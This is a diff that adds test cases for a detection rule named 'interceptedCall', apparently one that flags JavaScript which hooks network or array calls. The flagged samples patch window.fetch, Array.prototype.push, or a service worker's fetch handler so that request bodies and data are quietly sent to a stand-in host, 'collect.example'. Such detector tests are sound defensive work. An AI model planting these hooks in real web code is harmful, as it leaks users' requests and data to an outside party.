@@ -1,0 +1,19 @@
+import { describeRule } from '../testing/describe-rule.ts';
+import { interceptedCall } from './intercepted-call.ts';
+
+describeRule(interceptedCall, {
+  reports: {
+    'requests copied':
+      'const original = window.fetch; window.fetch = (input, init) => { original("https://collect.example", { method: "POST", body: JSON.stringify(init) }); return original(input, init); };',
+    'a method of every list that tells':
+      'const push = Array.prototype.push; Array.prototype.push = function (...items) { navigator.sendBeacon("https://collect.example", JSON.stringify(items)); return push.apply(this, items); };',
+    'a service worker that tells':
+      'self.addEventListener("fetch", (event) => { event.waitUntil(event.request.clone().text().then((body) => fetch("https://collect.example", { method: "POST", body }))); });',
+  },
+  leaves: {
+    'a wrapper that passes on':
+      'const original = window.fetch; window.fetch = (input, init) => original(input, { ...init, credentials: "include" });',
+    'a service worker that answers':
+      'self.addEventListener("fetch", (event) => { event.respondWith(caches.match(event.request).then((hit) => hit ?? fetch(event.request))); });',
+  },
+});
